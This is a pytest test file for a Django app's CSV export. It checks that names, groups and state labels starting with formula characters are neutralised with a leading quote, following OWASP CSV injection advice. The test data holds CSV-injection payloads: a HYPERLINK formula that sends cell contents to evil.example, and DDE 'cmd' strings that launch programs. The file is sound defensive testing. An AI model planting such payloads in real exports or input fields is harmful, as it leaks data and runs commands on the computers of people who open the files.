"""CSV exports never hand a spreadsheet a formula: text a vendor's console let someone type
(queue and agent names, ids, state labels) is neutralised per OWASP's CSV injection advice."""

from __future__ import annotations

import csv
import json
from datetime import timedelta as td
from io import StringIO

import pytest
from django.core.management import call_command

from collectors.agent_states import apply_snapshot
from collectors.config_import import import_config
from collectors.writers import upsert_intervals
from integrations.vendors.records import (
    AgentRecord,
    AgentStateRecord,
    ConfigSnapshot,
    IntervalRecord,
    QueueRecord,
    StateSnapshot,
)
from tests.collectors.enginekit import T0

pytestmark = pytest.mark.django_db

HOSTILE = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Sales")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


def export(*args: str) -> str:
    out = StringIO()
    call_command("export", *args, stdout=out)
    return out.getvalue()


@pytest.mark.parametrize("kind", list(HOSTILE))
def test_a_queue_name_starting_with_a_formula_trigger_is_exported_as_text(eight, kind):
    name = HOSTILE[kind]
    upsert_intervals(eight, [IntervalRecord(name, T0, 3, 1, 90, queue_name=name)], T0 + td(hours=1))
    [row] = list(csv.DictReader(StringIO(export("volume", "--connection", "acme/eight"))))
    assert row["queue_name"] == "'" + name
    assert row["queue_id"] == "'" + name
    assert (row["entered"], row["abandoned"], row["handle_seconds"]) == ("3", "1", "90")
    # JSON is not a spreadsheet format: it carries the value exactly as stored.
    [item] = json.loads(export("volume", "--connection", "acme/eight", "--json"))
    assert item["queue_name"] == name


def test_agent_names_groups_and_state_labels_are_neutralised_and_plain_text_is_untouched(eight):
    import_config(
        eight,
        ConfigSnapshot(
            agents=[
                AgentRecord("a1", "=cmd|' /C notepad'!A1", group="@ops"),
                AgentRecord("a2", "Ann O'Neil - Sales", group="East"),
            ],
            queues=[QueueRecord("q1", "Sales")],
        ),
        T0,
    )
    apply_snapshot(
        eight,
        StateSnapshot(T0, [AgentStateRecord("a1", "other", raw_code="-1", raw_label="+Lunch")]),
        interval_seconds=30,
    )
    agents = {
        r["agent_id"]: r for r in csv.DictReader(StringIO(export("agents", "--connection", "acme/eight")))
    }
    assert (agents["a1"]["name"], agents["a1"]["group"]) == ("'=cmd|' /C notepad'!A1", "'@ops")
    assert (agents["a2"]["name"], agents["a2"]["group"]) == ("Ann O'Neil - Sales", "East")
    [state] = list(csv.DictReader(StringIO(export("agent-states", "--connection", "acme/eight"))))
    assert (state["raw_code"], state["raw_label"]) == ("'-1", "'+Lunch")
